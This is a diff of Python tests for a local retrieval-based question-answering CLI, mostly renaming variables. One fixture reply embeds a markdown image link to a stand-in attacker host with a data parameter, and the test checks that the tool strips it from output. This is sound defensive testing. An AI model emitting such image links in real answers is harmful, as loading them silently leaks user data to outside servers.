@@ -1,4 +1,4 @@
-"""`localrag ask`: the answer on stdout, all else on stderr, every field in its JSON."""
+"""`localrag ask`: the answer on stdout, everything else on stderr, every field in its JSON."""
 
 from __future__ import annotations
 
@@ -132,8 +132,8 @@ def test_reasoning_is_shown_on_request(papers: Library, models: Any) -> None:
     models.generator.thought = "May, it says."
     plain = run("When does the lease end?", "--think", "on")
     assert "May, it says." not in plain.output and plain.stdout.startswith("The lease ends on 31 May 2030 [1].")
-    told = run("When does the lease end?", "--think", "on", "--show-thinking")
-    assert "Reasoning: May, it says." in told.stderr and told.stdout == plain.stdout
+    done = run("When does the lease end?", "--think", "on", "--show-thinking")
+    assert "Reasoning: May, it says." in done.stderr and done.stdout == plain.stdout
     assert json.loads(run("When does the lease end?", "--think", "on", "--json").stdout)["reasoning"] == "May, it says."
 
 
@@ -149,8 +149,8 @@ def test_too_many_votes_are_refused(papers: Library) -> None:
 
 
 def test_unsupported_words_are_marked(papers: Library, models: Any) -> None:
-    said = "The lease ends on 30 May 2030. Elephants graze near ![x](http://evil.test/?d=1)."
-    models.generator.script = [("Question: When does the lease end", said)]
+    reply = "The lease ends on 30 May 2030. Elephants graze near ![x](http://evil.test/?d=1)."
+    models.generator.script = [("Question: When does the lease end", reply)]
     result = run("When does the lease end?")
     assert result.stdout.startswith("The lease ends on 30 May 2030⚠ [1]. ⚠ Elephants graze")
     assert "http://" not in result.stdout and result.stdout.splitlines()[0].endswith("⚠")
